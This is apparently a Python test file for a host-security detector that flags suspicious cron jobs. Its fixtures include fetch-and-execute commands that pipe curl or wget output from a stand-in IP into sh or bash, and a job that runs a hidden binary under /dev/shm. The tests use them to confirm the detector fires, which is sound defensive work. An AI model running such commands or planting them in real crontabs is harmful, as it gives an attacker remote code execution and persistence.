from __future__ import annotations

from tasks.checks.host.cron_job_suspicious import CronJobSuspicious
from tests.tasks.checks.host._facts import cannot, found, job, put, survey

CHECK = CronJobSuspicious()


def test_a_job_that_fetches_and_runs() -> None:
    jobs = (job("curl -s http://203.0.113.9/u | sh"), job("/dev/shm/.x/k", path="/var/spool/cron/crontabs/bob"))
    assert [severity for severity, _ in found(CHECK, survey(cron=jobs))] == ["critical", "critical"]
    script = put("cron", "/etc/cron.daily/x", "#!/bin/sh\nwget -qO- http://203.0.113.9 | bash\n", mode=0o755)
    assert found(CHECK, survey(files=(script,))) == [("critical", "/etc/cron.daily/x")]


def test_what_administrators_write() -> None:
    jobs = (
        job("/usr/local/bin/backup.sh >/tmp/backup.log 2>&1"),
        job("curl -fsS https://status.example/ping -o /dev/null"),
        job("curl -s http://203.0.113.9/u | sh", enabled=False),
    )
    off = put("cron", "/etc/cron.daily/x", "curl http://203.0.113.9 | sh\n", mode=0o644)
    assert found(CHECK, survey(cron=jobs, files=(off,))) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "files")
